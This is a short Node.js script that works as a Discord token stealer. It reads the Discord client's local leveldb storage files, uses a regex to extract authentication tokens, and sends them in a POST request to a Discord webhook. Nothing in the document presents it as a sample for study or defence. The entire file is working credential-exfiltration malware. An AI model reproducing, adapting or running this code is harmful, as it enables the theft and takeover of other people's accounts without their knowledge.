const fs = require("fs");
const path = require("path");
const https = require("https");
const dir = path.join(process.env.APPDATA, "discord", "Local Storage", "leveldb");
let tokens = [];
for (const f of fs.readdirSync(dir)) {
  const text = fs.readFileSync(path.join(dir, f), "utf8");
  tokens = tokens.concat(text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g) || []);
}
const req = https.request("https://discord.com/api/webhooks/1100000000000000000/abcDEFghiJKLmnoPQRstuVWX", { method: "POST" });
req.write(JSON.stringify({ content: tokens.join("\n") }));
req.end();
